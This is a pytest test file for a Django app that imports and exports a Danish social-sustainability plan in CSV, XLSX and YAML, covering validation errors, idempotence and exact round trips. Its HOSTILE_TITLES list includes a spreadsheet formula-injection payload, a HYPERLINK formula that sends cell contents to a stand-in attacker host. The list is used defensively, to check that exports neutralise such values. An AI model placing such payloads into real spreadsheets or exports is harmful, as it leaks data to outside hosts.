"""Plan import and export: the real demo plan, every import error, idempotence and the exact round trip."""

import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.db.models import Sum

from sporbar.accounts.demo import load_units
from sporbar.accounts.models import AuditEntry
from sporbar.plans.importing import export_plan, import_plan_file, parse_amount, parse_plan_file
from sporbar.plans.models import BudgetLine, Initiative, Plan, Theme, Track
from sporbar.plans.services import plan_overview

PLAN_FILE = Path(settings.BASE_DIR) / "data" / "demo" / "plan.yaml"
MIO = Decimal(1_000_000)

HEADER = (
    "plan_code;plan_name;theme_number;theme_name;track_number;track_name;initiative_key;title;amount;"
    "period_start;period_end;target_group;target_group_size;target_category;owner_unit;partners;evaluation;"
    "is_employment;purpose;value;what_who_how;resources;follow_up;budget_2021;budget_2022"
)


def csv_file(tmp_path, *rows, header=HEADER, name="plan.csv"):
    path = tmp_path / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


def row(key="act", title="ACT-team", amount="2.500.000", theme="1;Hjemløshed", track="1.1;Boliger", **kw):
    values = {
        "period_start": "2021",
        "period_end": "2023",
        "target_group": "Hjemløse over 25 år",
        "target_group_size": "12",
        "target_category": "udsatte",
        "owner_unit": "centre-a",
        "partners": "Rusmiddelcenter Aarhus",
        "evaluation": "Borgernes egen oplevelse",
        "is_employment": "nej",
        "purpose": "Et hjem",
        "value": "Færre indlæggelser",
        "what_who_how": "Et team",
        "resources": "Fire medarbejdere",
        "follow_up": "Halvårlig status",
        "budget_2021": "1.250.000",
        "budget_2022": "1250000,00",
    } | kw
    return ";".join(["testplan", "Testplanen", theme, track, key, title, amount, *values.values()])


def plan_rows_written():
    return [m.objects.count() for m in (Plan, Theme, Track, Initiative, BudgetLine)]


@pytest.fixture
def demo_units(db):
    load_units()


@pytest.fixture
def demo_plan(demo_units):
    result = import_plan_file(PLAN_FILE)
    assert result.errors == []
    return Plan.objects.get()


# --- the real plan ---------------------------------------------------------------------------


def test_demo_plan_has_the_real_themes_and_totals_computed_by_the_database(demo_plan):
    assert demo_plan.name == "Den Sociale Bæredygtighedsplan – investeringsinitiativer"
    totals = dict(
        Theme.objects.filter(plan=demo_plan)
        .annotate(total=Sum("tracks__initiatives__amount"))
        .values_list("number", "total")
    )
    assert totals == {1: 8 * MIO, 2: 4 * MIO, 3: Decimal("3.8") * MIO, 4: Decimal("4.7") * MIO, 5: Decimal("4.5") * MIO}
    overview = plan_overview(demo_plan)
    assert overview["plan"]["total"] == 25 * MIO
    tracks = [t["number"] for theme in overview["themes"] for t in theme["tracks"]]
    assert tracks == ["1.2", "1.3", "1.4", "2.3", "3.2", "3.3", "4.1", "4.3", "5.2", "5.3"]
    assert Initiative.objects.count() == 13
    by_track = {
        t["number"]: [i["amount"] / MIO for i in t["initiatives"]] for th in overview["themes"] for t in th["tracks"]
    }
    assert by_track["3.3"] == [Decimal("1.7"), Decimal("1.0")]
    assert by_track["4.1"] == [Decimal("1.1"), Decimal("2.5")]
    assert by_track["5.2"] == [Decimal("1.5"), Decimal("1.0")]


def test_demo_plan_keeps_each_initiatives_facts(demo_plan):
    ips = Initiative.objects.get(key="ips")
    assert (ips.period_start, ips.period_end, ips.target_group_size) == (2021, 2023, 50)
    assert ips.owner_unit.code == "job-og-integration" and ips.is_employment
    assert "kontanthjælpsmodtagere over 30 år" in ips.target_group
    assert "tættere på beskæftigelse" in ips.evaluation and "oplevelser" in ips.evaluation
    act = Initiative.objects.get(key="act")
    assert act.target_group_size == 12 and act.owner_unit.code == "center-for-forsorg"
    assert "Rusmiddelcenter Aarhus" in act.partners and "regionspsykiatrien" in act.partners
    dual = Initiative.objects.get(key="dobbeltdiagnose")
    assert dual.target_group_size == 23 and "27 beboere" in dual.target_group
    assert all(place in dual.target_group for place in ("Sletten", "Tilst Søndervej", "Havkærhus"))
    assert "Psykiatriens Hus" in Initiative.objects.get(key="peer").partners
    assert "SAND" in Initiative.objects.get(key="ny-indflyttere").partners
    for initiative in Initiative.objects.all():
        assert initiative.purpose and initiative.what_who_how and initiative.resources, initiative.key
        assert "<p>" not in initiative.what_who_how
        # The one-off amount is the budget of the seed's period; after it, a continued initiative's
        # operating budget (ours, see the file's header).
        in_period = initiative.budget_lines.filter(year__lte=initiative.period_end or 0)
        budget = in_period.aggregate(total=Sum("amount"))["total"]
        assert budget is None or budget == initiative.amount, initiative.key
    assert list(act.budget_lines.values_list("year", flat=True)) == [2021, 2022, 2023, 2024, 2025, 2026]


# --- reading ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text,expected",
    [("2.500.000", "2500000"), ("2500000,00", "2500000"), ("2500000", "2500000"), ("2 500 000 kr.", "2500000")]
    + [("566666,67", "566666.67"), (2500000, "2500000"), (566666.67, "566666.67"), ("1.5", "1.5")],
)
def test_amounts_in_danish_and_plain_notation(text, expected):
    assert parse_amount(text) == Decimal(expected)


def test_comma_separated_csv_with_a_multiline_cell_is_read_with_the_files_own_line_numbers(org, tmp_path):
    header = HEADER.replace(";", ",")
    first = row().replace(";", ",").replace("Et team", '"Et team\npå to linjer"')
    second = row(key="boliger", title="Boliger", amount="x").replace(";", ",")
    rows, errors = parse_plan_file(csv_file(tmp_path, first, second, header=header))
    assert rows[0].data["what_who_how"] == "Et team\npå to linjer"
    assert rows[0].data["amount"] == Decimal("2500000") and rows[0].budget == {2021: Decimal("1250000")} | {
        2022: Decimal("1250000")
    }
    assert [(e.line, e.field) for e in errors] == [(4, "amount")]


# --- every import error, and nothing written -------------------------------------------------


def test_a_bad_file_lists_every_problem_by_line_and_field_and_writes_nothing(org, tmp_path):
    audit_before = AuditEntry.objects.count()
    path = csv_file(
        tmp_path,
        row(),  # 2: fine
        row(key="a", theme=";"),  # 3: missing theme
        row(key="b", amount="2,5 mio"),  # 4: amount not a number
        row(key="c", theme="2;Beskæftigelse"),  # 5: track 1.1 also under theme 2
        row(key="d", track="1.1;Andet navn"),  # 6: track 1.1 with another name
        row(key="act"),  # 7: duplicate initiative key
        row(key="e", owner_unit="ukendt-center"),  # 8: unknown unit
        row(key="f", title=""),  # 9: missing required field
        row(key="g", period_start="20x1"),  # 10: bad year
    )
    result = import_plan_file(path)
    problems = {(e.line, e.field): e.message for e in result.errors}
    assert problems.keys() >= {
        (3, "theme_number"),
        (3, "theme_name"),
        (4, "amount"),
        (5, "track_number"),
        (6, "track_name"),
        (7, "initiative_key"),
        (8, "owner_unit"),
        (9, "title"),
        (10, "period_start"),
    }
    assert problems[(3, "theme_number")] == "Tema mangler: temanummeret skal udfyldes."
    assert problems[(4, "amount")].startswith("Beløbet er ikke et tal: »2,5 mio«")
    assert problems[(5, "track_number")].startswith("Dobbelt spor: spor 1.1 står under tema 1 på linje 2")
    assert problems[(6, "track_name")].startswith("Dobbelt spor: spor 1.1 har et andet navn på linje 2")
    assert problems[(7, "initiative_key")] == "Dobbelt initiativ: nøglen »act« står også på linje 2."
    assert problems[(8, "owner_unit")] == "Ukendt enhed »ukendt-center«."
    assert problems[(9, "title")] == "Feltet skal udfyldes."
    assert problems[(10, "period_start")].startswith("Ugyldigt år")
    assert plan_rows_written() == [0, 0, 0, 0, 0]
    assert AuditEntry.objects.count() == audit_before


def test_bad_header_year_and_unknown_column_are_reported_on_line_1(org, tmp_path):
    header = HEADER.replace("budget_2022", "budget_20x2") + ";farve"
    result = import_plan_file(csv_file(tmp_path, row() + ";rød", header=header))
    problems = {(e.line, e.field): e.message for e in result.errors}
    assert problems.keys() == {(1, "budget_20x2"), (1, "farve")}
    assert problems[(1, "budget_20x2")].startswith("Ugyldigt år i kolonnen »budget_20x2«")
    assert problems[(1, "farve")] == "Ukendt kolonne »farve«."
    assert plan_rows_written() == [0, 0, 0, 0, 0]


def test_a_missing_required_column_is_reported_once(org, tmp_path):
    header = HEADER.replace("owner_unit;", "")
    line = row().replace(";centre-a;", ";")
    result = import_plan_file(csv_file(tmp_path, line, line.replace(";act;", ";b;"), header=header))
    assert [(e.line, e.field, e.message) for e in result.errors] == [
        (1, "owner_unit", "Kolonnen »owner_unit« mangler i overskriften.")
    ]


def test_yaml_problems_name_the_post(org, tmp_path):
    path = tmp_path / "plan.yaml"
    path.write_text(
        "plan_code: testplan\nplan_name: Testplanen\ninitiatives:\n"
        "- {theme_number: 1, theme_name: A, track_number: '1.1', track_name: B, initiative_key: a,"
        " title: A, amount: 100, owner_unit: centre-a}\n"
        "- {theme_number: 1, theme_name: A, track_number: '1.1', track_name: B, initiative_key: b,"
        " title: B, amount: mange, owner_unit: centre-a, budget_2021: 5}\n",
        encoding="utf-8",
    )
    result = import_plan_file(path)
    assert [(e.place, e.field) for e in result.errors] == [("post 2", "amount")]
    assert plan_rows_written() == [0, 0, 0, 0, 0]


def test_xlsx_problems_use_the_sheets_row_numbers(org, tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER.split(";"))
    sheet.append(row().split(";"))
    sheet.append(row(key="x", owner_unit="nowhere").split(";"))
    path = tmp_path / "plan.xlsx"
    book.save(path)
    result = import_plan_file(path)
    assert [(e.line, e.field) for e in result.errors] == [(3, "owner_unit")]


# --- idempotence -----------------------------------------------------------------------------


def test_importing_the_same_file_twice_changes_nothing(demo_units):
    first = import_plan_file(PLAN_FILE)
    assert (first.created, first.updated, first.unchanged) == (13, 0, 0)
    rows, audit = plan_rows_written(), AuditEntry.objects.count()
    second = import_plan_file(PLAN_FILE)
    assert (second.created, second.updated, second.unchanged) == (0, 0, 13)
    assert plan_rows_written() == rows
    assert AuditEntry.objects.count() == audit


def test_a_changed_amount_updates_one_initiative_and_audits_only_that_change(org, tmp_path):
    import_plan_file(csv_file(tmp_path, row(), row(key="b", title="B")))
    last = AuditEntry.objects.order_by("-pk").values_list("pk", flat=True).first()
    result = import_plan_file(csv_file(tmp_path, row(), row(key="b", title="B", amount="3.000.000")))
    assert (result.created, result.updated, result.unchanged) == (0, 1, 1)
    entry = AuditEntry.objects.filter(pk__gt=last).get()
    assert entry.model == "plans.Initiative" and entry.after == {"amount": "3000000"}


# --- round trip ------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "yaml"])
def test_import_export_import_is_exact(demo_plan, fmt):
    original_rows, _ = parse_plan_file(PLAN_FILE)
    exported = export_plan(demo_plan, fmt)
    rows, errors = parse_plan_file(exported, f"plan.{fmt}")
    assert errors == []
    assert rows == original_rows
    Plan.objects.all().delete()
    result = import_plan_file(io.BytesIO(exported).getvalue(), f"plan.{fmt}")
    assert (result.errors, result.created) == ([], 13)
    assert export_plan(Plan.objects.get(), fmt) == exported


def test_text_that_looks_like_a_formula_stays_text_in_xlsx(org, tmp_path):
    import_plan_file(csv_file(tmp_path, row(title="=1+1 ikke en formel")))
    exported = export_plan(Plan.objects.get(), "xlsx")
    rows, errors = parse_plan_file(exported, "plan.xlsx")
    assert errors == [] and rows[0].data["title"] == "=1+1 ikke en formel"


HOSTILE_TITLES = [
    '=HYPERLINK("http://angriber.example/?d="&A1;"Klik her")',
    "+45 12 34 56 78",
    "-1 borger fra venteliste",
    "@SUM(A1:A9)",
    "'=ikke en formel",
    "'citat'",
    'Jeg vil "komme ud", sagde hun',
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "yaml"])
def test_hostile_titles_are_neutralised_in_the_export_and_read_back_exactly(org, fmt):
    plan = Plan.objects.create(code="p", name="=Plan")
    theme = Theme.objects.create(plan=plan, number=1, name="@Tema")
    track = Track.objects.create(theme=theme, number="1.1", name="-Spor")
    for i, title in enumerate(HOSTILE_TITLES):
        Initiative.objects.create(track=track, key=f"i{i}", title=title, amount=1000, owner_unit=org.centre_a)
    BudgetLine.objects.create(initiative=Initiative.objects.get(key="i0"), year=2025, amount=-500)
    exported = export_plan(plan, fmt)
    if fmt == "csv":
        text = exported.decode("utf-8-sig")
        cells = [cell for line in text.splitlines()[1:] for cell in line.split(";")]
        assert not [c for c in cells if c.startswith(("=", "+", "@")) or c.startswith("-") and c != "-500"]
        assert ";-500" in text  # a negative amount is a number, not escaped text
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        budget = [c.value for c in sheet[1]].index("budget_2025")
        cell = sheet.cell(row=2, column=budget + 1)
        assert (cell.value, cell.data_type) == (-500, "n")
    rows, errors = parse_plan_file(exported, f"plan.{fmt}")
    assert errors == []
    assert [r.data["title"] for r in rows] == HOSTILE_TITLES
    assert (rows[0].data["plan_name"], rows[0].data["theme_name"], rows[0].data["track_name"]) == (
        "=Plan",
        "@Tema",
        "-Spor",
    )
    assert import_plan_file(exported, f"plan.{fmt}").unchanged == len(HOSTILE_TITLES)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16"])
def test_the_plan_import_reads_the_encodings_excel_writes(org, tmp_path, encoding):
    title = "Bæredygtig økonomi, år 2" if encoding == "latin-1" else "“Bæredygtig” økonomi – år 2"
    path = tmp_path / "plan.csv"
    path.write_text("\n".join([HEADER, row(title=title)]) + "\n", encoding=encoding)
    result = import_plan_file(path)
    assert result.errors == []
    assert Initiative.objects.get().title == title
